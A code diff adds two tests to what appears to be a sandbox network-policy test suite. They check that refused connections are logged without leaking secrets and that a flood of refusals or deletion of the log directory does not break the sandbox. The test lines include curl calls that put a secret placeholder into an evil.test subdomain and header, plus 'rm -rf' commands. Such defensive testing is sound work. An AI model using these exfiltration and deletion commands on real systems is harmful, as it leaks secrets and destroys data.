@@ -335,6 +335,57 @@ def test_case_49_client_first_and_ssh_like(lab, box):
     nothing_arrived(lab)
 
 
+def denials(box) -> list[dict]:
+    out = box.sh("cat /run/casemate/denials.jsonl")
+    return [json.loads(line) for line in out.text.splitlines()]
+
+
+def test_the_sandbox_can_read_what_was_refused(lab, p1):
+    box = Box(lab, allow_net=["api.test"], secrets={"S1": {"hosts": ["api.test"], "value": S1}})
+    try:
+        secret = box.placeholder("S1")
+        box.curl("http://evil.test/path?query=1")
+        box.curl(f"https://{secret}.evil.test/")
+        box.curl("-H", f"x-key: {secret}", "http://api.test/path?query=2")
+        lab.instance.audit.wait(ev="misuse", sandbox=box.id)
+        lines = denials(box)
+        assert {"what": "connection", "host": "evil.test", "port": 80, "reason": "no rule allows it"}.items() \
+            <= next(one for one in lines if one["what"] == "connection").items()
+        assert {one["what"] for one in lines} >= {"connection", "name", "secret"}
+        for one in lines:
+            assert set(one) <= {"ts", "what", "host", "port", "reason", "conn", "secret", "suppressed"}
+            assert one["ts"] and one["reason"]
+        text = json.dumps(lines)
+        assert "query" not in text and secret not in text and "csec_" not in text and S1 not in text
+        assert box.sh("rm -f /run/casemate/denials.jsonl; echo x > /run/casemate/y").code != 0
+        other = Box(lab, allow_net=["api.test"])
+        try:
+            assert denials(other) == [], "each its own"
+        finally:
+            other.close()
+    finally:
+        box.close()
+
+
+def test_a_flood_of_refusals_costs_neither_daemon_nor_guest(lab):
+    """20 a second are told; the others are only counted in the audit."""
+    box = Box(lab, allow_net=["api.test"])
+    try:
+        box.sandbox.python(
+            "import socket\n"
+            "for n in range(3000):\n"
+            "    s = socket.socket(); s.settimeout(2)\n"
+            "    try: s.connect(('203.0.113.66', 22)); s.recv(1)\n"
+            "    except OSError: pass\n"
+            "    s.close()\n")
+        assert 1 <= len(denials(box)) < 400
+        assert box.sh("sudo rm -rf /run/casemate && echo gone").text == "gone\n"
+        box.curl("http://evil.test/")
+        assert box.sh("echo still here").text == "still here\n"
+    finally:
+        box.close()
+
+
 def test_case_62_a_forged_source_address(lab, box):
     """The sandbox is the socket: whatever source it claims, the same policy answers."""
     out = box.sandbox.python(
